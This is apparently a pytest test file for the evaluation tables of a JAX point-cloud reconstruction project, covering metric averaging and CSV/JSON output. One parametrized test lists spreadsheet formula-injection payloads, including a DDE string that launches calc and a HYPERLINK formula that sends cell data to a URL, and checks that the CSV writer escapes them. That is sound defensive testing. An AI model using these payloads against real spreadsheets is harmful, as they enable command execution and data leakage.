import csv
import dataclasses
import json

import numpy as np
import pytest
from helpers import drawn_solids as solids
from helpers import standin
from helpers.weights import config as small_config
from helpers.weights import random_params

from psgn_jax import tasks
from psgn_jax.data import loader
from psgn_jax.data.dataset import write_dataset
from psgn_jax.evaluation import table as table_lib
from psgn_jax.evaluation.results import Evaluation, SampleName
from psgn_jax.evaluation.split import eval_batches, evaluate_split


def test_every_sample_counts_once():
    def step(params, batch, index):
        """One number per sample, known in advance."""
        value = np.asarray(batch["points"], np.float64).mean(axis=(1, 2))
        return np.zeros((len(value), 2, 3)), {"cd_sq_radius2": value}

    config = standin.config(eval__batch_size=4)
    result = evaluate_split(config, {}, step)
    (whole,) = eval_batches(standin.config(eval__batch_size=11))
    expected = whole["points"].astype(np.float64).mean(axis=(1, 2))
    np.testing.assert_array_equal(result.metrics["cd_sq_radius2"], expected)
    names = zip(range(11), *(whole[name] for name in SampleName._fields[1:]), strict=True)
    assert result.names == [SampleName(*name) for name in names]
    assert len(evaluate_split(config, {}, step, max_samples=6).names) == 6


def table(names="aaab", **metrics):
    """An evaluation of four models, the last one of another category."""
    named = [SampleName(i, *name, view=7) for i, name in enumerate(zip(names, "abcd", strict=True))]
    arrays = {"cd_sq_radius2": [1.0, 2.0, 3.0, 6.0], "fscore": [0.1, 0.2, 0.3, 0.6], **metrics}
    arrays = {name: np.array(values) for name, values in arrays.items()}
    return Evaluation("validation", named, arrays, 0.01, (1024, 4096), 0.025)


def test_table_as_text_csv_and_json():
    lines = [line.split() for line in table_lib.text(table()).splitlines()]
    assert ["mean", "over", "samples", "4", "3.00000", "30.00"] in lines
    rows = table_lib.read_csv(table_lib.csv_text(table()))
    samples = table_lib.read_csv(table_lib.samples_csv(table()))
    assert [(r["record"], r["model_id"], r["view"]) for r in samples][3] == ("3", "d", "7")
    means = ["mean over samples", "mean over categories"]
    assert [row["category"] for row in rows] == ["a", "b", *means]
    assert [float(row["cd_sq_radius2"]) for row in rows] == [2, 6, 3, 4]
    assert rows[-1]["samples"] == "4"
    document = json.loads(table_lib.json_text(table(), step=7))
    assert document["mean_over_samples"]["fscore"] == pytest.approx(0.3)
    assert document["categories"]["a"]["samples"] == 3
    assert (document["step"], document["num_pred_points"]) == (7, 1024)


@pytest.mark.parametrize(
    "name",
    ['=HYPERLINK("http://a/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "\t=1", "\r=1",
     "a\x1b[31m", "'quoted", "\uff1d1+1", " =1", "a;=1+1", 'a"=1', "C:\\new", "'\\x41\\", "\ud800",
     "chair", ""],
)  # fmt: skip
def test_names_of_others_are_no_formulas_in_csv_and_are_read_back(name):
    names = [SampleName(i, name, name, view=7) for i in range(4)]
    for write in (table_lib.csv_text, table_lib.samples_csv):
        text = write(dataclasses.replace(table(), names=names))
        rows = list(csv.reader(text.splitlines()))
        assert all(len(row) == len(rows[0]) for row in rows)
        assert not any(cell.lstrip().startswith(tuple("=+@-\uff1d")) for r in rows for cell in r)
        assert text.replace("\n", "").isprintable()
        assert table_lib.read_csv(text)[0]["category"] == name or (not name and "(none)" in text)
    assert table_lib.read_csv(text)[0]["model_id"] == name


@pytest.mark.parametrize(("count", "shown"), [(8, ""), (3, ", 3 of a cloud different")])
def test_true_points_that_are_repeated_are_told(monkeypatch, count, shown):
    def few(*arguments, read=loader.eval_batches, **options):
        for batch in read(*arguments, **options):
            yield batch | {"points": batch["points"][:, np.arange(8) % count]}

    monkeypatch.setattr("psgn_jax.data.loader.eval_batches", few)
    step = lambda *_: (np.zeros((4, 2, 3)), {"cd_sq_radius2": np.ones(4)})  # noqa: E731
    result = evaluate_split(small_config(data__num_eval_points=8), {}, step)
    assert result.num_distinct == (count, count)
    assert f"8 true ones{shown}" in table_lib.text(result)
    assert json.loads(table_lib.json_text(result))["num_distinct_gt_points"] == [count, count]


def test_samples_without_visible_points_have_no_part_in_their_means():
    key = "cd_sq_gt_to_pred_visible_radius2"

    def means(visible, share):
        found = table(visible_share=share, **{key: visible})
        assert "0.025" in table_lib.text(found)
        return {row.name: row.metrics for row in found.rows()}

    rows = means([2.0, np.nan, np.nan, np.nan], [0.5, 0.0, 0.0, 0.0])
    assert np.isnan(rows["b"][key])
    assert {rows[n][key] for n in ("a", "mean over samples", "mean over categories")} == {2}
    assert rows["mean over samples"]["visible_share"] == pytest.approx(1 / 8)
    # A broken prediction is not left out.
    rows = means([2.0, np.nan, 3.0, 1.0], [0.5, 0.5, 0.5, 0.5])
    assert np.isnan(rows["mean over samples"][key])


def test_records_with_depth_have_the_columns_whatever_the_network_sees(tmp_path):
    deep = list(solids.samples(3, seed=1, image_size=(48, 64)))
    bare = [dataclasses.replace(sample, depth=None) for sample in deep]
    for name, samples in (("deep", deep), ("bare", bare)):
        write_dataset(tmp_path / name, {"validation": samples}, source="")

    config = small_config(data__path=str(tmp_path / "deep"))
    result = tasks.create(config).evaluate(random_params(config))
    share = result.metrics["visible_share"]
    assert ((share > 0.1) & (share < 0.9)).all()
    assert "hidden: the others" in table_lib.text(result)

    without = small_config(data__path=str(tmp_path / "bare"))
    assert "visible_share" not in tasks.create(without).evaluate(random_params(without)).metrics
